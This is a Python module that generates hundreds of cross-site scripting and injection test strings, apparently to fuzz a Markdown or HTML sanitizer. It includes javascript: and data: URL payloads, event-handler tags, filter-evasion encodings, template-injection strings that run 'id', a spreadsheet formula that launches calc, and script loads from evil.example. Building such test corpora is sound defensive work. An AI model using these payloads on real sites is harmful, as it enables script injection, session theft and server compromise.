"""Texts that try to become script, markup or a request when a page shows them: our own, in the manner of the known lists.

Each of them calls `alert` where it runs, or asks `evil.example` for something where it loads. `vectors()` gives all of
them in a fixed order, those of different kinds mixed, so that the first few hundred are a fair share.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain, zip_longest

RUN = "alert(1)"
HOST = "evil.example"

_SCHEMES = (
    "javascript:", "JavaScript:", "JAVASCRIPT:", "java\tscript:", "java&#10;script:", "java&Tab;script:", "&#106;avascript:", "&#x6A;avascript:", "javascript&colon;", "javascript&#58;", "%6Aavascript:", "\u3000javascript:", " javascript:", "javascript://x%0A", "javascript:/*--></title>*/",
    "vbscript:", "livescript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,<x/>", "blob:http://evil.example/", "file:///etc/passwd", "filesystem:http://evil.example/",
    "view-source:javascript:", "jar:http://evil.example!/", "feed:javascript:", "intent://evil.example/#Intent;", "ms-word:ofe|u|http://evil.example/a", "search-ms:query=", "smb://evil.example/", "about:blank#", "//evil.example/", "\\\\evil.example\\s", "/\\evil.example/", "https:evil.example/",
    "http://evil.example@good/", "ws://evil.example/", "ftp://evil.example/", "mailto:a@b.example?body=", "tel:+86", "./javascript:", "x:y", "jav\\ascript:",
)  # fmt: skip
_LINKS = (
    "[x]({s}alert(1))", "[x](<{s}alert(1)>)", '[x]({s}alert(1) "t")', "![x]({s}alert(1))", "<{s}alert(1)>", "[![x]({s}alert(1))]({s}alert(1))", "[x]: {s}alert(1)\n\n[x]", "[x][y]\n\n[y]: {s}alert(1)", "[{s}alert(1)]({s}alert(1))", "[x]({s}alert(1)//\\))",
    "- [x]({s}alert(1))", "> [x]({s}alert(1))", "|a|\n|-|\n|[x]({s}alert(1))|", "**[x]({s}alert(1))**", "[x]( {s}alert(1) )", "[x](&lt;{s}alert(1)&gt;)",
)  # fmt: skip
_TAGS = (
    "img src=x", "svg", "body", "iframe src=//evil.example/", "input autofocus", "select autofocus", "textarea autofocus", "video src=//evil.example/v", "audio src=//evil.example/a", "object data=//evil.example/o", "embed src=//evil.example/e", "details open", "marquee", "a href=# tabindex=1", "div", "math", "style", "link rel=stylesheet href=//evil.example/c.css",
    "form action=//evil.example/", "button", "table background=//evil.example/b", "bgsound src=//evil.example/s", "keygen autofocus", "isindex", "meter", "xss id=x tabindex=1", "custom-element", "track src=//evil.example/t", "source srcset=//evil.example/s", "frameset", "dialog open", "canvas", "noscript", "template", "picture", "portal src=//evil.example/",
)  # fmt: skip
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "onstart",
)
_FORMS = ("<{t} {e}=alert(1)>", '<{t} {e}="alert(1)">', "<{t}/{e}=alert(1)//", "</p><{t} {e}=alert(1)>")
_MARKUP = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<<script>alert(1)//<</script>", "<script>alert(1)", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "'\"><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "` onmouseover=`alert(1)",
    "x\" style=\"background:url(//evil.example/)", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"http://evil.example/\">]>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<base href=//evil.example/>",
    "<link rel=prefetch href=//evil.example/>", "<link rel=icon href=//evil.example/i>", "<style>@import url(//evil.example/c)</style>", "<style>*{{background:url(//evil.example/)}}</style>", "<div style=background:url(//evil.example/)>", "<img src=//evil.example/b.gif>", "<img srcset=//evil.example/b.gif>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><image href=//evil.example/i /></svg>", "<svg><use href=data:image/svg+xml,x /></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><set onbegin=alert(1) attributeName=x></svg>", "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='java&#x09;script:alert(1)'>x</a>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<img src=`x`onerror=alert(1)>", "<img\u3000src=x\u3000onerror=alert(1)>", "＜script＞alert(1)＜/script＞", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "';alert(1);//", "\";alert(1);//", "\\';alert(1);//", "</script>alert(1)", "<!--<script>", "${alert(1)}", "`${alert(1)}`", "*/alert(1)/*", "\u2019-alert(1)-\u2019", "javascript:alert(1)", "onerror=alert(1)", "__proto__", "constructor", "[object Object]", "{\"__proto__\":{\"x\":1}}", "=cmd|'/c calc'!A1", "+alert(1)", "-alert(1)", "@SUM(1)",
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% for x in range(9) %}x{% endfor %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{# x #}", "{% raw %}{{ x }}", "{{ config }}", "#{7*7}", "<%= 7*7 %>", "${7*7}", "{{constructor.constructor('alert(1)')()}}", "{{=alert(1)}}", "[[${alert(1)}]]", "<x v-on:click=alert(1)>", "<x ng-app>{{$eval.constructor('alert(1)')()}}", "<x hx-get=//evil.example/ hx-trigger=load>",
    "<script type=module>import '//evil.example/x.js'</script>", "<script type=importmap>{\"imports\":{\"x\":\"//evil.example/\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example/\"]}]}</script>", "<img id=location><a id=document name=cookie>", "<form id=words><input name=site>", "<a id=SIDAN><a id=SIDAN name=x href=javascript:alert(1)>",
)  # fmt: skip
_WRAPPED = (
    "{v}",
    "> {v}",
    "- {v}",
    "1. {v}",
    "# {v}",
    "|a|\n|-|\n|{v}|",
    "**{v}**",
    "`{v}`",
    "```\n{v}\n```",
    "```{v}\nx\n```",
    "    {v}",
    "[{v}](http://good.example)",
    "[x](http://good.example/{v})",
    '[x](http://good.example "{v}")',
    "![{v}](http://evil.example/b)",
    "<http://good.example/{v}>",
    "\\{v}",
    "~~{v}~~",
)


def vectors() -> tuple[str, ...]:
    """All of them, each once."""
    groups = (list(_links()), list(_handlers()), list(_wrapped()))
    mixed = chain.from_iterable(zip_longest(*groups))
    return tuple(dict.fromkeys(one for one in mixed if one))


def _links() -> Iterator[str]:
    for number, scheme in enumerate(_SCHEMES):
        for offset in range(len(_LINKS)):
            yield _LINKS[(number + offset) % len(_LINKS)].replace("{s}", scheme)


def _handlers() -> Iterator[str]:
    for number, tag in enumerate(_TAGS):
        for offset, event in enumerate(_EVENTS):
            yield _FORMS[(number + offset) % len(_FORMS)].replace("{t}", tag).replace("{e}", event)


def _wrapped() -> Iterator[str]:
    for offset in range(len(_WRAPPED)):
        for number, text in enumerate(_MARKUP):
            yield _WRAPPED[(number + offset) % len(_WRAPPED)].replace("{v}", text)
